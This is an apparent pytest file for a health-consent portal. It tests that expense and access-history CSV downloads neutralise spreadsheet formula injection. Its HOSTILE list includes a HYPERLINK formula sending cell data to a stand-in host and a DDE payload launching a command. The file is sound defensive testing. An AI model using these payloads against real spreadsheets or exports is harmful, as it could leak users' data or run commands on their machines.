"""CSV downloads neutralise spreadsheet formulas (OWASP CSV injection; issue 13, item 2)."""

import csv
import io

import pytest

from homeconsent.audit.services import record_access
from homeconsent.registry.codes import with_check_digit
from homeconsent.registry.models import ExpenseNotice, Institution
from homeconsent.spreadsheet import csv_text, neutralised

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def cells(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def is_safe(cell):
    return not cell or cell[0] not in "=+-@\t\r\n＝＋－＠"


@pytest.mark.parametrize("value", HOSTILE + ["アムロジピン錠5mg", "=アムロジピン錠5mg"])
def test_a_cell_that_would_start_a_formula_is_read_as_text(value):
    # when a text cell (an institution name, a drug name) is written
    row = cells_of(csv_text(["h"], [[value, 31120, -5]]))[1]
    # then it cannot start a formula, keeps its text after the apostrophe, and numbers stay numbers
    assert is_safe(row[0]) and row[0].lstrip("'") == value
    assert row[1:] == ["31120", "-5"]


def cells_of(text):
    return list(csv.reader(io.StringIO(text)))


def test_plain_text_is_unchanged():
    assert neutralised("さくら薬局") == "さくら薬局" and neutralised("2025-05") == "2025-05"


@pytest.mark.parametrize("name", HOSTILE)
def test_expenses_csv_neutralises_institution_names(signed_in, me, name):
    # given an expense notice at an institution whose registered name is a formula
    notice = ExpenseNotice.objects.filter(person=me.person).latest("month")
    ExpenseNotice.objects.filter(pk=notice.pk).update(institution_name=name)
    # when the patient downloads the year
    rows = cells(signed_in.get("/portal/expenses.csv", {"year": notice.month.year}))
    # then no cell starts a formula and the name is there as text
    assert all(is_safe(cell) for row in rows for cell in row)
    assert "'" + name in [row[1] for row in rows]


@pytest.mark.parametrize("name", HOSTILE)
def test_access_csv_neutralises_the_institution_and_the_actor_column(signed_in, me, name):
    # given reads by the staff and by the system of an institution whose name is a formula
    hostile = Institution.objects.create(code=with_check_digit("139999991"), name=name)
    for actor_type in ("institution_staff", "institution_client"):
        record_access(
            actor_type=actor_type,
            actor_id="=1+1",
            person=me.person,
            items=["medication"],
            basis="consent",
            institution_code=hostile.code,
        )
    # when the patient downloads the access history
    rows = cells(signed_in.get("/portal/access.csv"))
    # then the institution column and the actor column (閲覧した者) hold the name as text only
    mine = [row for row in rows[1:] if row[1] == hostile.code]
    assert len(mine) == 2
    assert all(is_safe(cell) for row in rows for cell in row)
    assert {row[2] for row in mine} == {"'" + name} and all(row[3].startswith("'" + name) for row in mine)
